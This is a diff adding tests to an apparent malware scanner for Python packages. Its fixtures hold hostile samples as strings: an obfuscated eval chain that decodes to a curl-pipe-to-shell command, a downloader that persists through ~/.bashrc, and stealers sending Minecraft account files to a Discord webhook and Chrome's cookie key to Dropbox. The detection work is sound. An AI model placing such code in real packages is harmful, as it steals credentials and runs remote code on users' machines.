@@ -11,6 +11,7 @@ fails when a rule is added to the catalogue without one.
 
 from __future__ import annotations
 
+import codecs
 import tarfile
 import zipfile
 from collections.abc import Callable
@@ -826,6 +827,111 @@ def test_exfil_sink_fires_for_address_hidden_by_encoding(tmp_path: Path, scanner
 def test_exfil_sink_benign_address_decoded_from_configuration(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cloud.py": CLOUD_ID_LIBRARY}), scanner)
     assert_quiet(result, "exfil-sink")
+
+
+def escaped(text: str) -> str:
+    """`text` as \\xNN escapes inside a Python string literal."""
+    return "".join(f"\\x{ord(c):02x}" for c in text)
+
+
+CHAIN_PAYLOAD = b64("import os\nos.system('curl -s http://127.0.0.1:9/x.sh | sh')\n")
+CHAIN_HALF = len(CHAIN_PAYLOAD) // 2
+ESCAPED_EVAL_CHAIN = f"""import base64
+import codecs
+
+first = "{CHAIN_PAYLOAD[:CHAIN_HALF]}"
+second = "{codecs.encode(CHAIN_PAYLOAD[CHAIN_HALF:], "rot13")}"
+key = "{escaped("rot13")}"
+blob = eval("{escaped("first")}") + eval("{escaped("codecs.decode(second, key)")}")
+eval(compile(base64.b64decode(eval("{escaped("blob")}")), "<string>", "exec"))
+"""
+
+
+def test_decode_exec_fires_through_escaped_eval_chain(tmp_path: Path, scanner: Scanner) -> None:
+    # Names spelt as escaped strings and evaluated, rot13 halves, then base64: decoded statically.
+    result = scan(write_sdist(tmp_path, {INIT: ESCAPED_EVAL_CHAIN}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+COMMENTED_THEN_LIVE = f"""import base64
+# exec(base64.b64decode("{b64(INERT_CODE)}"))
+exec(base64.b64decode("{b64(INERT_CODE)}"))
+"""
+
+
+def test_decode_exec_text_rule_sees_past_a_commented_copy(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: COMMENTED_THEN_LIVE}), scanner)
+    found = assert_fires(result, "decode-exec", Verdict.MALICIOUS)
+    assert any(f.line == 3 for f in found), describe(result)
+
+
+IMPLANT_LIBRARY = """import os
+import urllib.request
+
+
+def install():
+    data = urllib.request.urlopen("http://192.0.2.1/out").read()
+    with open(os.path.expanduser("~/.drv"), "wb") as handle:
+        handle.write(data)
+    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
+        rc.write("~/.drv &")
+"""
+SHELL_CONFIG_LIBRARY = """import os
+
+RC_FILES = [".bashrc", ".zshrc", ".profile"]
+
+
+def shell_config():
+    return [os.path.expanduser("~/" + name) for name in RC_FILES]
+"""
+
+
+def test_persistence_fires_next_to_raw_ip_download_when_called(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/pr.py": IMPLANT_LIBRARY}), scanner)
+    assert_fires(result, "persistence", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+def test_persistence_benign_rc_file_names(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/cfg.py": SHELL_CONFIG_LIBRARY}), scanner)
+    assert_quiet(result, "persistence", below=Severity.MEDIUM)
+
+
+GAME_SESSION_STEALER = """import os
+
+import requests
+
+HOOK = "https://discord.com/api/webhooks/000/fixture"
+
+
+def grab():
+    path = os.path.join(os.environ["APPDATA"], ".minecraft", "launcher_accounts.json")
+    with open(path, "rb") as handle:
+        requests.post(HOOK, files={"f": handle})
+"""
+CLOUD_DROP_STEALER = f"""import os
+
+import dropbox
+
+TOKEN = "sl.{"A" * 130}"
+
+
+def backup():
+    client = dropbox.Dropbox(TOKEN)
+    local_state = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Local State")
+    with open(local_state, "rb") as handle:
+        key = handle.read()  # holds the "encrypted_key" Chrome seals cookies with
+        client.files_upload(key, "/x")
+"""
+
+
+def test_stealer_fires_for_game_sessions(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/mc.py": GAME_SESSION_STEALER}), scanner)
+    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_stealer_fires_for_browser_secrets_sent_to_cloud_drop(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bk.py": CLOUD_DROP_STEALER}), scanner)
+    assert_fires(result, "stealer", Verdict.MALICIOUS, severity=Severity.CRITICAL)
 
 
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
